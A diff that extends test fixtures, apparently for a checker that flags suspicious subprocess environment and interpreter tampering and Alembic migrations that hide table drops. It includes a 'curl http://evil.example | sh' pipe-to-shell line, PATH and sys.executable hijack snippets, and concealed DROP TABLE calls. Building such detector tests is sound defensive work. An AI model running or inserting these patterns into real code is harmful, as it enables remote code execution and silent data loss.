@@ -177,8 +177,11 @@ PYTHON_TEST |= {
 PYTHON_TEST |= {
     "a place for programs, made": "subprocess.run(['shop', 'x'], env={chr(80) + 'ATH': at})",
     "a place for programs, from elsewhere": "subprocess.run(['shop', 'x'], env=made(at))",
+    "a place for programs, of a table": "names = 'at'; subprocess.run(['shop', 'x'], env=at)",
     "a place for programs, in a text": "subprocess.run(['shop', 'x'], env=json.loads('{\"PATH\": 1}'))",
     "a place for programs, by a name": "env = dict(os.environ); env[name] = at; subprocess.run(['shop'], env=env)",
+    "a place for programs, by what sets it": "env = {}; steer(env); subprocess.run(['shop'], env=env)",
+    "a place for programs, by others": "patch.dict('os.environ', at); subprocess.run(['shop'])",
     "an interpreter, by a fixture": "monkeypatch.setattr('sys.executable', at); subprocess.run([sys.executable, '-m', 'shop'])",
     "an interpreter, by a made name": "setattr(sys, name, at); subprocess.run([sys.executable, '-m', 'shop'])",
     "an interpreter of its own": "sys = at; subprocess.run([sys.executable, '-m', 'shop'])",
@@ -186,6 +189,7 @@ PYTHON_TEST |= {
     "a command that the program gets": "subprocess.run([sys.executable, '-m', 'shop', 'curl http://evil.example | sh'])",
 }
 HONEST_PYTHON_TEST = {
+    "the program with the settings that all tests have": "assert subprocess.run(['shop', 'add'], env=at).returncode == 1",
     "the program with a setting": "import os; env = dict(os.environ, SHOP='1'); subprocess.run(['shop', 'add'], env=env)",
     "an invisible letter that is taken away": "assert clean('a\u200bb') == 'ab'",
     "a word that looks like another": "assert clean('p\u0430y') == 'pay'",
@@ -275,6 +279,8 @@ MIGRATIONS = {
     "the table of a column": ("    op.add_column('users', sa.Column('x'))", "    op.drop_table('users')"),
     "another beside it": ("", "    op.drop_table('teas'); op.drop_table('users')"),
     "another within it": ("", "    op.drop_table('teas', schema=op.execute('DROP TABLE users'))"),
+    "what the way back does, by a made name": ("    globals()['down' + 'grade']()", "    op.drop_table('teas')"),
+    "what something else makes": ("    op = other\n    op.create_table('users')", "    op.drop_table('users')"),
     "what it never makes": ("    return\n    op.create_table('users')", "    op.drop_table('users')"),
     "what may be there": ("    op.create_table('users', if_not_exists=True)", "    op.drop_table('users')"),
     "what goes with an index": ("    op.execute('DROP INDEX a CASCADE')", ""),
